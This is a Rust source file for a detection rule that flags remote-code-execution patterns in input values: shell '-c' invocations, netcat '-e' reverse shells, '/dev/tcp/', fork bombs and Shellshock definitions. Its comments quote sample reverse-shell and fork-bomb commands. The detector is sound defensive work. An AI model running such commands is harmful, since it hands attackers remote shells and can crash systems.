//! `rce-004`: an interpreter or network tool invoked to run code or hand over a shell
//! (`sh -c`, `nc -e`, `/dev/tcp/`), a fork bomb and a Shellshock function definition.

use crate::detect::words::word_list;

word_list! {
    /// Interpreters and tools that, invoked with these flags, run arbitrary code or open a shell.
    INVOCATIONS = "shell-invocations"
}

/// Whether `text` (lowercase) may hold an invocation: every one has an option (`-c`, `-e`,
/// `-r`: a `-` alone, as in `item-12` or `2-pack`, is not enough) or is `/dev/tcp/`; a fork
/// bomb or a Shellshock definition opens with `()`. (Squeezing only turns blank runs into one
/// blank: a piece without blanks found in the squeezed copy stands in `text` as well.)
pub(super) fn may_invoke(text: &str) -> bool {
    ["-c", "-e", "-r", "/dev/tcp/", "()"]
        .iter()
        .any(|piece| text.contains(piece))
}

/// Whether the blank-squeezed value invokes an interpreter or tool to run code.
pub(super) fn invokes(squeezed: &str) -> bool {
    INVOCATIONS.iter().any(|i| squeezed.contains(i))
        || has_fork_bomb(squeezed)
        || has_netcat_exec(squeezed)
}

/// A shell function that calls itself twice through a pipe and the background, `f(){ f|f& };f`
/// (the fork bomb, whatever the function is named), or a Shellshock function definition
/// `() { …` at the start of a value.
fn has_fork_bomb(squeezed: &str) -> bool {
    if squeezed.trim_start().starts_with("() {") || squeezed.trim_start().starts_with("(){") {
        return true;
    }
    ["(){", "() {"].iter().any(|open| {
        squeezed.match_indices(open).any(|(i, _)| {
            let before = squeezed.get(..i).unwrap_or_default();
            let name_start = before
                .rfind(|c: char| c.is_ascii_whitespace() || matches!(c, ';' | '&' | '|'))
                .map_or(0, |p| p + 1);
            let name = before.get(name_start..).unwrap_or_default();
            let body = squeezed
                .get(i + open.len()..)
                .unwrap_or_default()
                .trim_start();
            !name.is_empty()
                && body
                    .strip_prefix(name)
                    .map(|r| r.trim_start_matches("()").trim_start())
                    .is_some_and(|r| r.starts_with('|'))
        })
    })
}

/// Netcat handing a shell to the network with options between: `nc 10.0.0.1 6666 -e sh`,
/// `ncat -lvp 4444 -e /bin/bash` (`nc -e` right after the name is in [`INVOCATIONS`]).
fn has_netcat_exec(squeezed: &str) -> bool {
    ["nc ", "ncat ", "netcat "].iter().any(|tool| {
        squeezed.match_indices(tool).any(|(i, _)| {
            let starts_word = squeezed
                .get(..i)
                .and_then(|b| b.chars().last())
                .is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '_' || c == '-'));
            // (A command line is short: no more than 256 bytes of it are read, which keeps a
            // value of many `nc ` linear.)
            let line = squeezed.get(i + tool.len()..).unwrap_or_default();
            let mut cut = line.len().min(256);
            while !line.is_char_boundary(cut) {
                cut -= 1;
            }
            let line = line
                .get(..cut)
                .unwrap_or_default()
                .split([';', '|', '&', '\n'])
                .next()
                .unwrap_or_default();
            starts_word
                && line.match_indices("-e ").any(|(e, _)| {
                    let program = line
                        .get(e + 3..)
                        .unwrap_or_default()
                        .split([' ', '\'', '"'])
                        .next()
                        .unwrap_or_default();
                    let is_shell = |p: &str| {
                        matches!(
                            p,
                            "sh" | "bash"
                                | "zsh"
                                | "ksh"
                                | "dash"
                                | "cmd"
                                | "cmd.exe"
                                | "powershell"
                        )
                    };
                    // `c:\windows\system32\cmd.exe`, and `sh\n` with a line break written out.
                    is_shell(program.rsplit(['/', '\\']).next().unwrap_or(program))
                        || is_shell(
                            program
                                .split('\\')
                                .next()
                                .and_then(|p| p.rsplit('/').next())
                                .unwrap_or(program),
                        )
                })
        })
    })
}
